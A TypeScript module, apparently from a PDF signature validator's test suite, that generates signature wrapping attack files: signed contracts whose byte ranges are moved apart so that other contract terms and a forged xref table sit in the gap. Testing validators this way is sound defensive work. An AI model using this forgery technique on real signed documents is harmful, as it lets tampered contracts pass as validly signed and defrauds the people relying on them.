import { type Bytes, concatBytes } from "../../lib/bytes.ts";
import { fromLatin1, latin1 } from "../../lib/pades/pdf/chars.ts";
import { openPdf } from "../../lib/pades/pdf/index.ts";
import { findSignatures } from "../../lib/pades/validate/find-signatures.ts";
import type { World } from "../pki.ts";
import { contract, inUse, OTHER_TERMS, sign, startXref, words } from "./contract.ts";
import type { AttackFile } from "./index.ts";

/** Signature wrapping (Mladenov et al., CCS 2019): the signed bytes are all there, but moved apart, and the gap holds another document. */
export async function wrappingAttacks(world: World): Promise<AttackFile[]> {
  const { pdf } = await sign(world, contract());
  const file = (name: string, what: string, bytes: Uint8Array): AttackFile => ({
    family: "wrapping",
    name,
    what,
    files: [bytes],
  });
  const moved = "the second stretch is moved behind another body and table; a new dictionary says where it lies now";
  return [
    file("swa-moved", moved, wrap(pdf, {})),
    file(
      "swa-moved-zeros",
      "the same, the room before the new table filled with zeros as if it were /Contents",
      wrap(pdf, { fill: "0" }),
    ),
    file("swa-own-end", "the same, the new table with an end of its own", wrap(pdf, { ownEnd: true })),
    file("swa-same-dictionary", "the same, but the signature dictionary is the old one", wrap(pdf, { keepDictionary: true })),
  ];
}

/**
 * `orig[0..gapEnd) ‖ evil ‖ orig[gapEnd..)`. The signed second stretch says where the table lies, and stays as it is: in the moved file
 * that place is inside the evil part, where another table waits.
 */
function wrap(pdf: Bytes, { fill = " ", keepDictionary = false, ownEnd = false }): Bytes {
  const doc = openPdf(pdf);
  const [signature] = findSignatures(doc);
  if (!signature?.ok) throw new Error("no signature to wrap");
  const [, gapStart, gapEnd, rest] = signature.byteRange;
  const number = signatureNumber(pdf);
  const xrefAt = startXref(pdf);
  const second = xrefAt + 3000 + (gapEnd - gapStart);

  const evil = words(OTHER_TERMS);
  const content = `4 0 obj\n<</Length ${evil.length}>>\nstream\n${evil}\nendstream\nendobj\n`;
  const range = `[0 ${gapStart} ${second} ${rest}]`;
  const hex = latin1(pdf, gapStart, gapEnd);
  const form = "/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached";
  const dictionary = `${number} 0 obj\n<<${form}/ByteRange${range}/Contents ${hex}>>\nendobj\n`;
  const objectsAt = xrefAt + 1000;
  const entries = new Map<number, number>();
  for (const [num, entry] of doc.revisions.at(-1)?.entries ?? [])
    if (entry.kind === "offset") entries.set(num, entry.offset < gapEnd ? entry.offset : entry.offset + second - gapEnd);
  entries.set(4, objectsAt);
  if (!keepDictionary) entries.set(number, objectsAt + content.length);
  const rows = [...entries].sort(([a], [b]) => a - b).map(([num, offset]) => inUse(num, offset));
  const trailer = `trailer\n<</Size 60/Root 1 0 R/Prev ${previousXref(pdf)}>>\n`;
  const end = ownEnd ? `startxref\n${xrefAt}\n%%EOF\n` : "";
  const table = `xref\n${rows.join("")}${trailer}${end}`.padEnd(1000);
  const gap = `${fill.repeat(xrefAt - gapEnd)}${table}${content}${dictionary}`;
  return concatBytes(pdf.subarray(0, gapEnd), fromLatin1(gap.padEnd(second - gapEnd)), pdf.subarray(gapEnd));
}

/** The dictionary whose /Contents is the gap. */
const signatureNumber = (pdf: Uint8Array): number => Number(/\/V (\d+) 0 R/.exec(latin1(pdf))?.[1]);

function previousXref(pdf: Uint8Array): number {
  const all = [...latin1(pdf).matchAll(/startxref\s+(\d+)/g)].map(([, offset]) => Number(offset));
  return all.at(-2) ?? 0;
}
